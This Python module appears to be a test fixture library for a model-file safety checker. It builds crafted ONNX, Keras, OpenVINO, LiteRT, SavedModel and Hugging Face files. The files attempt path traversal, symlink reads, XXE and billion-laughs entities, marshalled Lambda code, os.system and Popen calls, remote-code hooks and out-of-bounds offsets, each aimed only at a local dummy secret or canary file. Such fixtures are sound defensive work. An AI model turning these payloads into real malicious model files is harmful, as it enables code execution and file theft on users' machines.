"""Model files that would read what they must not, or run code, when a library opens them unchecked.

A builder makes one file in a folder of its own and returns its path; what it reaches for lies outside that folder.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np

SECRET = np.array([1729.0, 4104.0], dtype=np.float32)  # what a file outside the model's folder holds
Builder = Callable[[Path], Path]


def secret(folder: Path) -> Path:
    """A file beside the model's folder; a model that answers with its numbers has read it."""
    path = folder / "secret.bin"
    path.write_bytes(SECRET.tobytes())
    return path


def _home(folder: Path) -> Path:
    secret(folder)
    home = folder / "model"
    home.mkdir(exist_ok=True)
    return home


def external_tensor(location: str, **entries: str) -> Any:
    """The name and shape of the secret, and its values in another file."""
    import onnx

    tensor = onnx.TensorProto(name="w", dims=[2], data_type=onnx.TensorProto.FLOAT)
    tensor.data_location = onnx.TensorProto.EXTERNAL
    for key, value in {"location": location, **entries}.items():
        tensor.external_data.add(key=key, value=value)
    return tensor


def adding(tensor: Any) -> Any:
    """A model `y = x + w` with this initializer."""
    from onnx import TensorProto, helper

    value = (TensorProto.FLOAT, [2])
    x, y = (helper.make_tensor_value_info(name, *value) for name in "xy")
    graph = helper.make_graph([helper.make_node("Add", ["x", "w"], ["y"])], "g", [x], [y], [tensor])
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8)


def _with_initializer(location: str) -> Builder:
    def build(folder: Path) -> Path:
        path = _home(folder) / "model.onnx"
        path.write_bytes(adding(external_tensor(location)).SerializeToString())
        return path

    return build


def _absolute(folder: Path) -> Path:
    return _with_initializer(str(secret(folder).absolute()))(folder)


def _linked(folder: Path) -> Path:
    path = _with_initializer("w.bin")(folder)
    (path.parent / "w.bin").symlink_to(secret(folder))
    return path


def _behind_link(folder: Path) -> Path:
    path = _with_initializer("data/secret.bin")(folder)
    (path.parent / "data").symlink_to(folder)
    return path


def _hard_linked(folder: Path) -> Path:
    path = _with_initializer("w.bin")(folder)
    os.link(secret(folder), path.parent / "w.bin")
    return path


def _in_memory(tag: str) -> Builder:
    """ONNX Runtime takes such a location for an address, even if there is a file of this name."""

    def build(folder: Path) -> Path:
        path = _with_initializer(tag)(folder)
        (path.parent / tag).parent.mkdir(parents=True)
        (path.parent / tag).write_bytes(SECRET.tobytes())
        return path

    return build


def nested_onnx(place: str, location: str = "../secret.bin") -> Any:
    """A model with an external tensor in a place other than its initializers."""
    from onnx import TensorProto, helper

    tensor, inner = external_tensor(location), helper.make_tensor("inner", TensorProto.FLOAT, [2], [0.0, 0.0])
    model = adding(helper.make_tensor("w", TensorProto.FLOAT, [2], [0.0, 0.0]))
    out = helper.make_tensor_value_info("o", TensorProto.FLOAT, [2])
    constant = helper.make_node("Constant", [], ["o"], value=tensor)
    match place:
        case "constant":
            model.graph.node.insert(0, helper.make_node("Constant", [], ["w"], value=tensor))
            del model.graph.initializer[:]
        case "branch":
            branch = helper.make_graph([constant], "b", [], [out])
            deeper = helper.make_node("If", ["c"], ["o"], then_branch=branch, else_branch=branch)
            outer = helper.make_graph([deeper], "a", [], [out])
            model.graph.node.append(helper.make_node("If", ["c"], ["z"], then_branch=outer, else_branch=outer))
        case "initializer of a branch":
            branch = helper.make_graph([helper.make_node("Identity", ["w"], ["o"])], "b", [], [out], [tensor])
            model.graph.node.append(helper.make_node("Loop", ["n", "c"], ["z"], body=branch))
        case "function":
            opset = [helper.make_opsetid("", 17)]
            model.functions.append(helper.make_function("own", "F", [], ["o"], [constant], opset))
        case "default of a function":
            opset, default = [helper.make_opsetid("", 17)], helper.make_attribute("value", tensor)
            made = helper.make_function("own", "F", [], ["o"], [], opset, attribute_protos=[default])
            model.functions.append(made)
        case "values of a sparse tensor":
            indices = helper.make_tensor("i", TensorProto.INT64, [2], [0, 1])
            model.graph.sparse_initializer.append(helper.make_sparse_tensor(tensor, indices, [4]))
        case "indices of a sparse tensor":
            model.graph.sparse_initializer.append(helper.make_sparse_tensor(inner, tensor, [4]))
        case "list of tensors":
            attribute = helper.make_attribute("tensors", [tensor])
            model.graph.node[0].attribute.append(attribute)
        case "training":
            model.training_info.add().algorithm.initializer.append(tensor)
        case _:
            raise ValueError(place)
    return model


NESTED = (
    *("constant", "branch", "initializer of a branch", "function", "default of a function"),
    *("values of a sparse tensor", "indices of a sparse tensor", "list of tensors", "training"),
)


def _nested(place: str) -> Builder:
    def build(folder: Path) -> Path:
        path = _home(folder) / "model.onnx"
        path.write_bytes(nested_onnx(place).SerializeToString())
        return path

    return build


def _compiled(folder: Path) -> Path:
    from onnx import helper

    path = _home(folder) / "model.onnx"
    values = {"embed_mode": 0, "ep_cache_context": "../secret.bin"}
    model = adding(external_tensor("w.bin"))
    model.graph.node[0].CopyFrom(helper.make_node("EPContext", ["x"], ["y"], domain="com.microsoft", **values))
    (path.parent / "w.bin").write_bytes(SECRET.tobytes())
    path.write_bytes(model.SerializeToString())
    return path


# Each reads a file outside the model's folder, or memory.
ONNX_PAYLOADS: dict[str, Builder] = {
    "parent": _with_initializer("../secret.bin"),
    "parent in between": _with_initializer("data/../../secret.bin"),
    "absolute": _absolute,
    "backslash": _with_initializer("..\\secret.bin"),
    "drive": _with_initializer("C:secret.bin"),
    "nul": _with_initializer("../secret.bin\0.txt"),
    "address in memory": _in_memory("*/_ORT_MEM_ADDR_/*"),
    "address in native order": _in_memory("*/_ORT_NATIVE_ENDIAN_MEM_ADDR_/*"),
    "link": _linked,
    "behind a link": _behind_link,
    "hard link": _hard_linked,
    "compiled elsewhere": _compiled,
    **{f"in {place}": _nested(place) for place in NESTED},
}


def malicious_onnx_escape(folder: Path) -> Path:
    return ONNX_PAYLOADS["parent"](folder)


def keras_config(*layers: dict[str, Any]) -> dict[str, Any]:
    """A sequential model of rows of two numbers, with these layers after its input."""
    entry = {"batch_shape": [None, 2], "dtype": "float32", "name": "x"}
    start = {"module": "keras.layers", "class_name": "InputLayer", "config": entry, "registered_name": None}
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "trainable": True, "dtype": "float32", "layers": [start, *layers]},
        "registered_name": None,
    }


def keras_layer(name: str, module: str | None = "keras.layers", /, **config: Any) -> dict[str, Any]:
    return {"module": module, "class_name": name, "config": {"name": "layer", **config}, "registered_name": None}


def hdf5_weights(fill: Callable[[Any], object] = lambda file: None) -> bytes:
    """A file of weights, changed by `fill`."""
    import h5py

    content = io.BytesIO()
    with h5py.File(content, "w") as file:
        file.create_dataset("layers/dense/vars/0", data=np.ones((2, 2), np.float32))
        fill(file)
    return content.getvalue()


def keras_members(config: Any, weights: bytes) -> dict[str, bytes]:
    return {
        "metadata.json": json.dumps({"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}).encode(),
        "config.json": json.dumps(config).encode(),
        "model.weights.h5": weights,
    }


def zip_of(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", compression) as archive:
        for name, member in members.items():
            archive.writestr(name, member)
    return content.getvalue()


def lambda_config(folder: Path) -> dict[str, Any]:
    """A Lambda layer whose function makes the file `canary` in the folder as soon as Keras calls it."""
    source = f"lambda x: [open({str(folder / 'canary')!r}, 'w').close(), x][1]"
    function: Any = eval(source)
    code = base64.b64encode(marshal.dumps(function.__code__)).decode()
    return {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}


def _keras(layer: Callable[[Path], dict[str, Any]]) -> Builder:
    def build(folder: Path) -> Path:
        path = _home(folder) / "model.keras"
        path.write_bytes(zip_of(keras_members(keras_config(layer(folder)), hdf5_weights())))
        return path

    return build


def _function(name: str, module: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def _legacy(layer: Callable[[Path], dict[str, Any]]) -> Builder:
    """The same in a file of old, for which Keras once ignored its safe mode."""

    def build(folder: Path) -> Path:
        import h5py

        path = _home(folder) / "model.h5"
        with h5py.File(path, "w") as file:
            file.attrs["model_config"] = json.dumps(keras_config(layer(folder)))
            file.create_group("model_weights")
        return path

    return build


def _called_by_lambda(folder: Path) -> dict[str, Any]:
    address = f"file://{secret(folder)}"
    return keras_layer("Lambda", function=_function("get_file", "keras.utils"), arguments={"origin": address})


# Each runs code, or reads or fetches a file.
KERAS_PAYLOADS: dict[str, Builder] = {
    "lambda": _keras(lambda folder: keras_layer("Lambda", function=lambda_config(folder))),
    "lambda by its module": _keras(
        lambda folder: keras_layer("Lambda", "keras.src.layers.core.lambda_layer", function=lambda_config(folder))
    ),
    "lambda in a wrapper": _keras(
        lambda folder: keras_layer(
            "TimeDistributed", layer=keras_layer("Lambda", function=lambda_config(folder), name="inner")
        )
    ),
    "lambda as an activation": _keras(lambda folder: keras_layer("Dense", units=2, activation=lambda_config(folder))),
    "lambda in a nested model": _keras(
        lambda folder: keras_config(keras_layer("Lambda", function=lambda_config(folder)))
    ),
    "lambda of old": _legacy(lambda folder: keras_layer("Lambda", None, function=lambda_config(folder))),
    "list of old": _legacy(
        lambda folder: keras_layer("Lambda", None, function=[lambda_config(folder)["config"]["code"], None, None])
    ),
    "download": _keras(_called_by_lambda),
    "download as an activation": _keras(
        lambda folder: keras_layer("Dense", units=2, activation=_function("get_file", "keras.utils"))
    ),
    "command": _keras(lambda folder: keras_layer("Dense", units=2, activation=_function("system", "os"))),
    "class of another package": _keras(lambda folder: keras_layer("Popen", "subprocess", args=["id"])),
    "custom class": _keras(lambda folder: {**keras_layer("Own"), "registered_name": "package>Own"}),
    "custom class under a name of Keras": _keras(
        lambda folder: {**keras_layer("Dense", units=2), "registered_name": "package>Dense"}
    ),
    "saved model": _keras(lambda folder: keras_layer("TFSMLayer", filepath=str(folder))),
    "torch module": _keras(lambda folder: keras_layer("TorchModuleWrapper", module="UEsDBA==")),
    "jax function": _keras(lambda folder: keras_layer("JaxLayer", call_fn=_function("system", "os"))),
    "vocabulary in a file": _keras(lambda folder: keras_layer("StringLookup", vocabulary=str(secret(folder)))),
    "vocabulary by an address": _keras(
        lambda folder: keras_layer("TextVectorization", vocabulary="http://127.0.0.1/words.txt")
    ),
    "path as a name": _keras(lambda folder: keras_layer("Dense", units=2, name="../../up")),
    "function of layers": _legacy(lambda folder: keras_layer("deserialize", None, config={"class_name": "Lambda"})),
}


def malicious_keras(folder: Path) -> Path:
    """Makes the file `canary` in the folder where Keras trusts it."""
    return KERAS_PAYLOADS["lambda"](folder)


IR = """<?xml version="1.0"?>
<net name="adding" version="11">
<layers>
<layer id="0" name="x" type="Parameter" version="opset1"><data shape="2" element_type="f32"/>
<output><port id="0" precision="FP32"><dim>2</dim></port></output></layer>
<layer id="1" name="w" type="Const" version="opset1"><data element_type="f32" shape="2" offset="0" size="8"/>
<output><port id="0" precision="FP32"><dim>2</dim></port></output></layer>
<layer id="2" name="y" type="Add" version="opset1"><data auto_broadcast="numpy"/>
<input><port id="0" precision="FP32"><dim>2</dim></port><port id="1" precision="FP32"><dim>2</dim></port></input>
<output><port id="2" precision="FP32"><dim>2</dim></port></output></layer>
<layer id="3" name="r" type="Result" version="opset1">
<input><port id="0" precision="FP32"><dim>2</dim></port></input></layer>
</layers>
<edges><edge from-layer="0" from-port="0" to-layer="2" to-port="0"/>
<edge from-layer="1" from-port="0" to-layer="2" to-port="1"/>
<edge from-layer="2" from-port="2" to-layer="3" to-port="0"/></edges>
</net>
"""  # y = x + w, with w in the .bin


def _ir(
    change: Callable[[str], str] = lambda text: text, link: Callable[[Path, Path], object] | None = None
) -> Builder:
    def build(folder: Path) -> Path:
        path = _home(folder) / "model.xml"
        path.write_text(change(IR))
        if link:
            link(secret(folder), path.with_suffix(".bin"))
        else:
            path.with_suffix(".bin").write_bytes(SECRET.tobytes())
        return path

    return build


def _entities(text: str) -> str:
    declared = '<!DOCTYPE net [<!ENTITY stolen SYSTEM "../secret.bin">]>'
    return text.replace("<net name=", f"{declared}<net name=").replace("</net>", "&stolen;</net>")


def _laughing(text: str) -> str:
    """A billion laughs: entities that stand for ten of each other."""
    grown = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    declared = f'<!DOCTYPE net [<!ENTITY l0 "ha">{grown}]>'
    return text.replace("<net name=", f"{declared}<net name=").replace("</net>", "&l9;</net>")


# Each reads a file outside the model's folder, or memory beyond a file, or needs a library.
OPENVINO_PAYLOADS: dict[str, Builder] = {
    "entity": _ir(_entities),
    "laughs": _ir(_laughing),
    "link": _ir(link=lambda target, path: path.symlink_to(target)),
    "hard link": _ir(link=os.link),
    "beyond the end": _ir(lambda text: text.replace('offset="0"', 'offset="4"')),
    "far beyond the end": _ir(lambda text: text.replace('offset="0"', f'offset="{2**62}"')),
    "before the start": _ir(lambda text: text.replace('offset="0"', 'offset="-8"')),
    "overflow": _ir(lambda text: text.replace('offset="0"', f'offset="{2**64 - 8}"')),
    "extension": _ir(lambda text: text.replace('type="Add" version="opset1"', 'type="Add" version="extension"')),
    "weights elsewhere": _ir(
        lambda text: text.replace("</net>", '<rt_info><__weights_path value="../secret.bin"/></rt_info></net>')
    ),
}


def malicious_openvino(folder: Path) -> Path:
    """Takes the secret for its weights."""
    return OPENVINO_PAYLOADS["link"](folder)


Fields = dict[int, Any]  # of a table of a flatbuffer, by their numbers: (form, number), or where another part begins


def litert_model(
    custom: str | None = None,
    graph: Fields | None = None,
    tensor: Fields | None = None,
    operator: Fields | None = None,
    buffer: Fields | None = None,
    outside: bool = False,
) -> bytes:
    """y = x + w as a `.tflite`, or a custom operator in place of the sum; fields of its tables are overwritten."""
    import flatbuffers

    builder = flatbuffers.Builder(1024)
    code: Fields = {0: ("Int8", 0), 3: ("Int32", 0)}
    if custom:
        code = {0: ("Int8", 32), 1: builder.CreateString(custom), 3: ("Int32", 32)}
    numbers = builder.CreateByteVector(SECRET.tobytes())
    buffers = [_table(builder, {}), _table(builder, {0: numbers, **(buffer or {})})]
    tensors = [
        _table(builder, {0: _integers(builder, [2]), 2: ("Uint32", used), 3: builder.CreateString(name), **fields})
        for name, used, fields in (("x", 0, {}), ("w", 1, tensor or {}), ("y", 0, {}))
    ]
    sums = {0: ("Uint32", 0), 1: _integers(builder, [0, 1]), 2: _integers(builder, [2]), **(operator or {})}
    operators = _offsets(builder, [_table(builder, sums)])
    whole = {0: _offsets(builder, tensors), 1: _integers(builder, [0]), 2: _integers(builder, [2]), 3: operators}
    parts: Fields = {1: _offsets(builder, [_table(builder, code)])}
    parts[2] = _offsets(builder, [_table(builder, {**whole, **(graph or {})})])
    parts[4] = _offsets(builder, buffers)
    if outside:  # the list of groups of buffers in other files, each by its name
        name = builder.CreateString("../secret.bin")
        parts[8] = _offsets(builder, [_table(builder, {0: name})])
    builder.Finish(_table(builder, {0: ("Uint32", 3), **parts}), file_identifier=b"TFL3")
    return bytes(builder.Output())


def _table(builder: Any, fields: Fields) -> int:
    builder.StartObject(12)
    for number, value in fields.items():
        if isinstance(value, tuple):
            form, plain = value
            getattr(builder, f"Prepend{form}Slot")(number, plain, plain + 1)  # another default, so that it is written
        else:
            builder.PrependUOffsetTRelativeSlot(number, value, 0)
    return int(builder.EndObject())


def _integers(builder: Any, numbers: list[int]) -> int:
    builder.StartVector(4, len(numbers), 4)
    for number in reversed(numbers):
        builder.PrependInt32(number)
    return int(builder.EndVector())


def _offsets(builder: Any, offsets: list[int]) -> int:
    builder.StartVector(4, len(offsets), 4)
    for offset in reversed(offsets):
        builder.PrependUOffsetTRelative(offset)
    return int(builder.EndVector())


def _litert(**changes: Any) -> Builder:
    def build(folder: Path) -> Path:
        path = _home(folder) / "model.tflite"
        path.write_bytes(litert_model(**changes))
        return path

    return build


# Each reads a file, memory beyond the file, or needs a library.
LITERT_PAYLOADS: dict[str, Builder] = {
    "file by TensorFlow": _litert(custom="FlexReadFile"),
    "custom operator": _litert(custom="Own"),
    "compiled": _litert(custom="DISPATCH_OP"),
    "other file": _litert(outside=True),
    "tensor in another file": _litert(tensor={10: ("Uint32", 1)}),
    "buffer beyond the end": _litert(buffer={1: ("Uint64", 2**40), 2: ("Uint64", 8)}),
    "options beyond the end": _litert(operator={9: ("Uint64", 64), 10: ("Uint64", 2**40)}),
    "no such buffer": _litert(tensor={2: ("Uint32", 1000)}),
    "no such operator": _litert(operator={0: ("Uint32", 1000)}),
}


def malicious_litert(folder: Path) -> Path:
    """Asks for an operator of TensorFlow that reads files."""
    return LITERT_PAYLOADS["file by TensorFlow"](folder)


def message(**fields: Any) -> bytes:
    """A message of protobuf: `f2=[...]` is field 2, of texts or messages."""
    content = b""
    for key, values in fields.items():
        for value in values if isinstance(values, list) else [values]:
            part = value.encode() if isinstance(value, str) else value
            content += varint(int(key[1:]) << 3 | 2) + varint(len(part)) + part
    return content


def varint(number: int) -> bytes:
    parts = []
    while number > 127:
        parts.append(number & 127 | 128)
        number >>= 7
    return bytes([*parts, number])


def graph_function(name: str, *operators: str, calls: str = "") -> bytes:
    """A function of a graph; `calls` names another that its first node takes as an attribute."""
    attribute = message(f1="f", f2=message(f10=message(f1=calls)))
    nodes = [message(f1=f"n{number}", f2=operator) for number, operator in enumerate(operators)]
    if calls:
        nodes.append(message(f1="call", f2="StatefulPartitionedCall", f5=attribute))
    return message(f1=message(f1=name), f3=nodes)


def saved_model(
    functions: list[bytes],
    top: tuple[str, ...] = (),
    objects: str | None = "__inference_f",
    assets: tuple[str, ...] = (),
) -> bytes:
    """The graph of a SavedModel, in which an object has the function of this name."""
    nodes = [message(f1=f"t{number}", f2=operator) for number, operator in enumerate(top)]
    described = {} if objects is None else {"f7": message(f1=b"", f2=message(f1=objects, f2=b""))}
    graph = message(f1=nodes, f2=message(f1=functions))
    listed = [message(f2=asset) for asset in assets]
    return b"\x08\x01" + message(f2=message(f2=graph, f6=listed, **described))


CHECKPOINTS = [
    graph_function("__inference__traced_save_1", "StringJoin", "ShardedFilename", "SaveV2", "MergeV2Checkpoints"),
    graph_function("__inference__traced_restore_2", "RestoreV2", "AssignVariableOp"),
]


def _saved(*functions: bytes, **changes: Any) -> Builder:
    def build(folder: Path) -> Path:
        path = _home(folder)
        (path / "variables").mkdir(exist_ok=True)
        (path / "variables" / "variables.index").write_bytes(b"index")
        (path / "saved_model.pb").write_bytes(saved_model([*CHECKPOINTS, *functions], **changes))
        return path

    return build


def _with_linked_variables(link: Callable[[Path, Path], object]) -> Builder:
    def build(folder: Path) -> Path:
        path = _saved(graph_function("__inference_f", "AddV2"))(folder)
        link(secret(folder), path / "variables" / "variables.data-00000-of-00001")
        return path

    return build


def _with_linked_folder(folder: Path) -> Path:
    path = _saved(graph_function("__inference_f", "AddV2"))(folder)
    (path / "assets").symlink_to(folder)
    return path


_OPERATORS = (
    *("ReadFile", "WriteFile", "MatchingFiles", "PyFunc", "EagerPyFunc", "PyFuncStateless", "PrintV2", "SaveV2"),
    *("RestoreV2", "InitializeTableFromTextFileV2", "TextLineDataset", "TFRecordReaderV2", "RpcCall", "_Send"),
    *("DebugIdentityV3", "LoadDataset", "ImmutableConst", "XlaCustomCallV2", "DecodeProtoV2", "Abort", "OwnCustomOp"),
)
# Each reads, writes or fetches a file, runs code or needs a library.
SAVED_MODEL_PAYLOADS: dict[str, Builder] = {
    **{f"function with {name}": _saved(graph_function("__inference_f", "AddV2", name)) for name in _OPERATORS},
    "graph with ReadFile": _saved(graph_function("__inference_f", "AddV2"), top=("Placeholder", "ReadFile")),
    "graph with SaveV2 as of old": _saved(top=("Placeholder", "SaveV2"), objects=None),
    "function under the name of an operator": _saved(
        graph_function("__inference_f", "ReadFile"), graph_function("ReadFile", "AddV2")
    ),
    "checkpoint that is called": _saved(graph_function("__inference_f", calls="__inference__traced_save_1")),
    "checkpoint that is an answer": _saved(objects="__inference__traced_save_1"),
    "checkpoint that does more": _saved(graph_function("__inference__traced_save_3", "SaveV2", "ReadFile")),
    "checkpoint without objects": _saved(objects=None),
    "asset elsewhere": _saved(graph_function("__inference_f", "AddV2"), assets=("../../secret.bin",)),
    "link": _with_linked_variables(lambda target, path: path.symlink_to(target)),
    "hard link": _with_linked_variables(os.link),
    "linked folder": _with_linked_folder,
}


def malicious_saved_model(folder: Path) -> Path:
    """Reads the secret when TensorFlow runs it, and answers with it; made by TensorFlow itself."""
    import tensorflow as tf

    target, path = secret(folder), folder / "model"

    class Reading(tf.Module):  # type: ignore[misc]
        @tf.function(input_signature=[tf.TensorSpec([2], tf.float32, name="x")])  # type: ignore[untyped-decorator]
        def __call__(self, x: Any) -> Any:
            return x + tf.io.decode_raw(tf.io.read_file(str(target)), tf.float32)

    module = Reading()
    tf.saved_model.save(module, str(path), signatures=module.__call__.get_concrete_function())
    return path


HF_CONFIG = {"model_type": "bert", "architectures": ["BertModel"], "hidden_size": 8, "dtype": "float32"}


def hugging_face(
    folder: Path, config: dict[str, Any] | None = None, weights: str = "model.safetensors", **files: bytes
) -> Path:
    """A folder as save_pretrained writes it, with more files."""
    from safetensors.numpy import save

    path = _home(folder)
    (path / "config.json").write_text(json.dumps({**HF_CONFIG, **(config or {})}))
    if weights:
        (path / weights).write_bytes(save({"w": SECRET}))
    for name, content in files.items():
        (path / name).write_bytes(content)
    return path


def _sharded(name: str) -> Builder:
    index = json.dumps({"metadata": {}, "weight_map": {"w": name}}).encode()
    return lambda folder: hugging_face(folder, weights="", **{"model.safetensors.index.json": index})


def _configured(**config: Any) -> Builder:
    return lambda folder: hugging_face(folder, config)


def _remote_code(folder: Path) -> Path:
    """A model of its own Python, which makes the file `canary` in the folder."""
    code = f"open({str(folder / 'canary')!r}, 'w').close()\n".encode()
    return hugging_face(folder, {"auto_map": {"AutoModel": "own.Own"}}, **{"own.py": code})


def _with_link(name: str) -> Builder:
    def build(folder: Path) -> Path:
        path = hugging_face(folder, weights="")
        (path / name).unlink(missing_ok=True)
        (path / name).symlink_to(secret(folder))
        return path

    return build


# Each runs code, downloads, or reads a file outside the folder.
HUGGING_FACE_PAYLOADS: dict[str, Builder] = {
    "code": _remote_code,
    "code on the hub": _configured(auto_map={"AutoModel": "someone/repository--own.Own"}),
    "nested code": _configured(text_config={"layers": [{"auto_map": {"AutoConfig": "own.Own"}}]}),
    "code of a tokenizer": lambda folder: hugging_face(
        folder, **{"tokenizer_config.json": b'{"auto_map": {"AutoTokenizer": ["own.Own", null]}}'}
    ),
    "wish to be trusted": _configured(trust_remote_code=True),
    "kernels on the hub": _configured(_attn_implementation="someone/kernels"),
    "nested kernels on the hub": _configured(text_config={"attn_implementation": {"": "someone/kernels@v1:f"}}),
    "backbone on the hub": _configured(use_pretrained_backbone=True, backbone="resnet50"),
    "weights elsewhere": _configured(transformers_weights="../secret.safetensors"),
    "attribute of Python": _configured(__class__="os"),
    "name of torch": _configured(dtype="load"),
    "path as a kind": _configured(model_type="../../own"),
    "adapter": lambda folder: hugging_face(folder, **{"adapter_config.json": b"{}"}),
    "part elsewhere": _sharded("../secret.safetensors"),
    "part by its whole path": _sharded("/etc/secret.safetensors"),
    "part in a pickle": _sharded("pytorch_model.bin"),
    "pickle": lambda folder: hugging_face(folder, weights="", **{"pytorch_model.bin": b"\x80\x02}."}),
    "link": _with_link("model.safetensors"),
    "linked configuration": _with_link("config.json"),
}


def malicious_hugging_face(folder: Path) -> Path:
    """Makes the file `canary` in the folder where transformers trusts it."""
    return HUGGING_FACE_PAYLOADS["code"](folder)
